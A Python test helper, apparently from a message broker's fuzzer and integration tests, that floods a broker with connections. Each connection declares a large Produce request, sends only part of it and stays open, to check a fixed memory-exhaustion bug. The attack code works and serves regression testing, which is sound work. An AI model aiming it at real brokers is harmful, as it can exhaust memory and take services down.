"""Memory attacks on a broker's receive path (used by the fuzzer and the integration tests).

``declared_size_attack``: ``connections`` sockets each announce a ``declared``-byte request
and send ``send_bytes`` of it, then hold the connection open. Before issue 13 the broker
allocated the declared size at once (ten 90 MB announcements with 1 MB sent took the broker
from 37 MB to 918 MB RSS); now its buffers grow with the bytes that arrive and
``queued.max.request.bytes`` bounds them together.
"""

from __future__ import annotations

import selectors
import socket
import struct
import time


def declared_size_attack(host: str, port: int, *, connections: int, declared: int,
                         send_bytes: int, stall_s: float = 2.0,
                         deadline_s: float = 30.0) -> list[socket.socket]:
    """Open the sockets and push the bytes (non-blocking) until all are sent, no socket made
    progress for ``stall_s`` (the broker muted them), or ``deadline_s`` passed. Returns the
    open sockets; the caller closes them. The frame is never completed: its header is a
    Produce v3 header, the body zeros."""
    head = struct.pack(">ihhih", declared, 0, 3, 1, 4) + b"evil"
    sel = selectors.DefaultSelector()
    socks: list[socket.socket] = []
    left: dict[socket.socket, int] = {}
    chunk = bytes(min(send_bytes, 256 * 1024))
    try:
        for _ in range(connections):
            s = socket.create_connection((host, port), timeout=10)
            s.setblocking(False)
            socks.append(s)
            left[s] = send_bytes
            sel.register(s, selectors.EVENT_WRITE)
            try:
                s.send(head)
            except BlockingIOError:
                pass
        start = last_progress = time.monotonic()
        while left and time.monotonic() - last_progress < stall_s \
                and time.monotonic() - start < deadline_s:
            for key, _ in sel.select(timeout=0.2):
                s = key.fileobj
                n_left = left.get(s)  # type: ignore[arg-type]
                if n_left is None:
                    continue
                try:
                    n = s.send(memoryview(chunk)[:min(n_left, len(chunk))])  # type: ignore[union-attr]
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    n = n_left  # closed by the broker: nothing more to send there
                last_progress = time.monotonic()
                if n >= n_left:
                    del left[s]  # type: ignore[arg-type]
                    sel.unregister(s)
                else:
                    left[s] = n_left - n  # type: ignore[index]
    finally:
        sel.close()
    return socks


def close_all(socks: list[socket.socket]) -> None:
    for s in socks:
        try:
            s.close()
        except OSError:
            pass
